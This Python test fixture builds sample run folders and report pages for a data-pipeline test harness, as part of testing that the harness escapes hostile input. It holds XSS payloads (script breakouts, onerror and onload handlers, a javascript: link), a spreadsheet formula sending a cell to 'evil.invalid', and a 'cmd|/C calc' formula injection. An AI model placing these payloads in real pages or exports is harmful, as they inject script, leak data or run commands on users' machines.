"""A store of runs made by hand, for reading its pages: pairs, every verdict, a night, hostile texts, a damaged
folder."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path
from typing import Any

from harness.history import Phase
from harness.report import render, summary
from harness.report.many import trend
from harness.report.many.hunted import Hunted
from harness.report.many.seen import EXPECTED, Seen
from harness.report.summary import Run
from harness.run_folder import digests
from harness.run_folder.store import RunFolder
from harness.scenario import Expected, Kind, Pipeline, Verdict, Word
from tests import histories
from tests import sample_runs as sample

BROKEN = Expected(word=Word.VIOLATED, kinds=(Kind.DUPLICATED,))
HOSTILE = (
    "</script><script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<svg onload=window.hit=1><a xlink:href='javascript:window.hit=1'>x</a></svg>",
    "\"' onmouseover=window.hit=1 style=position:fixed x='",
    "\u202etxet desrever\u2066",
    "x" * 40,
    "</style><style>*{display:none}</style>",
    "</script><img src=x onerror=window.hit=1>",
)
"""In names too, which become paths, and in tags."""
NO_UTF_8 = b"\xff\xc3(\xed\xa0\x80 <img src=x onerror=window.hit=1>"
VALUES = {
    "a formula": '=HYPERLINK("http://evil.invalid/?"&A1,"x")',
    "a formula with a pipe": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a cell of 10 MB": "<script>window.hit=1</script>".ljust(10 * 2**20, "x"),
    "no UTF-8": NO_UTF_8.decode(errors="surrogateescape"),
}
"""In values alone: of rows, keys, notes and reasons."""
READ = dict(zip(HOSTILE, HOSTILE, strict=True)) | {
    "\u202etxet desrever\u2066": r"\u202etxet desrever\u2066",
    **{text: text for name, text in VALUES.items() if "formula" in name},
    VALUES["a cell of 10 MB"]: "<script>window.hit=1</script>".ljust(120, "x") + "… (10,485,640 more characters)",
    VALUES["no UTF-8"]: r"\udcff\udcc3(\udced\udca0\udc80 <img src=x onerror=window.hit=1>",
}
"""What a reader sees of each, as a cell of a row. Written by hand: the harness's own escaping is what is tested."""
LOGGED = "\ufffd\ufffd(\ufffd\ufffd\ufffd <img src=x onerror=window.hit=1>"
"""What a reader sees of NO_UTF_8 in a log."""


def made(reports: Path) -> list[Run]:
    """Write the store, with a page of many runs in `latest`; the runs of it."""
    violated = sample.verdict(as_expected=True, expected="violated: duplicated")
    runs = [
        kept(reports, "an upsert, killed before the offset commit", sample.held(), "transactions/upsert.py"),
        kept(
            reports, "an append, killed before the offset commit", violated, "transactions/append.py", expected=BROKEN
        ),
        kept(reports, "an append that should have held", sample.verdict(), "transactions/other.py", seed=9),
    ]
    for word in (Word.INCONCLUSIVE, Word.UNTESTED, Word.ERROR):
        open_ = sample.verdict(word=word, findings=(), as_expected=word is Word.UNTESTED, reasons=("the time was up",))
        runs.append(kept(reports, f"a run that is {word}", open_, f"shapes/{word}.py", raw=NO_UTF_8))
    runs += hostile(reports).values()
    torn = kept(reports, "a run whose verdict is gone", sample.held(), "transactions/torn.py")
    RunFolder(torn.folder or reports).verdict_json.unlink()
    summary.write(reports, runs)
    for day in range(1, 13):
        past = [
            replace(run, about=replace(run.about, started=f"2026-03-{day:02}T02:17:00Z")) for run in runs[day % 4 :]
        ]
        trend.append(reports / "latest" / trend.NAME, past, 1)
    render.index(reports, runs)
    night(reports / "nightly", runs)
    return runs


def night(reports: Path, runs: list[Run]) -> Path:
    """The page of a night that was after those runs: hostile texts as issues, as names of pipelines that it was to find
    and of plans that were untested; known and expected failures, runs again, folders that are gone."""
    known, expected, untested, again = [], [], [], []
    texts = [*HOSTILE, *VALUES.values()]
    for text, seen in zip(texts, map(Seen.of, runs[-len(texts) :]), strict=True):
        gone = replace(seen, folder=None, removed=True, drawn=True)
        known.append(replace(seen, drawn=True, known=text))
        expected.append(replace(gone, known=EXPECTED))
        untested.append(replace(gone, scenario=text, word=Word.UNTESTED, reasons=(text,)))
        again.append(replace(seen, drawn=True, again=True))
    hunted = [Hunted(pipeline=text, plan=f"drawn {n}" if n % 2 else "", own=n, every=7) for n, text in enumerate(texts)]
    return render.index_of(reports, [*known, *expected, *untested, *again], hunted)


def hostile(reports: Path) -> dict[str, Run]:
    """By its payload a run with that payload in every text that data can reach."""
    out = {}
    for number, text in enumerate(HOSTILE):
        finding = replace(sample.duplicated(), key={text: text}, note=text, expected=({text: text},))
        exposure = sample.repetition(sink=text, point=text, note=text)
        verdict = sample.verdict(
            findings=(finding,), exposures=(exposure,), untried=((text, text),), reasons=(text,), notes=(text,)
        )
        out[text] = kept(reports, f"{number} {text}", verdict, f"hostile/{text}.py", tags=(text,), why=text)
    for name, text in VALUES.items():
        row = sample.row() | {"account": text}
        finding = replace(sample.duplicated(), key={"account": text}, note=text, expected=(row,), found=(row,))
        verdict = sample.verdict(findings=(finding,), reasons=(text,), notes=(text,))
        out[text] = kept(reports, name, verdict, "hostile/values.py", raw=NO_UTF_8)
    return out


def kept(reports: Path, name: str, verdict: Verdict, entry: str, *, raw: bytes = b"", **changes: Any) -> Run:
    """A run folder with digests and with its page; `raw` is in its log, and in a comment of its scenario."""
    scenario = sample.scenario(name=name, pipeline=Pipeline(entry=f"pipelines/{entry}"), **changes)
    folder = sample.stored(reports, verdict, asked=scenario, run_id=f"r{len(list(reports.glob('*/2*')))}")
    begun = [("set up", 0.2), ("warm-up", 0.9), ("feeding", 9.5), ("catching up", 16.0), ("judging", 29.0)]
    with folder.history.open("a", encoding="utf-8") as out:
        out.write(sample.written(histories.lines(*((at_s, Phase(name=phase)) for phase, at_s in begun))))
    if raw:
        (folder.logs / "driver-1.log").write_bytes(raw)
        with folder.scenario_yaml.open("ab") as file:
            file.write(b"# " + raw)
    digests.write(folder.path)
    render.write(folder.path)
    return Run.read(folder.path)
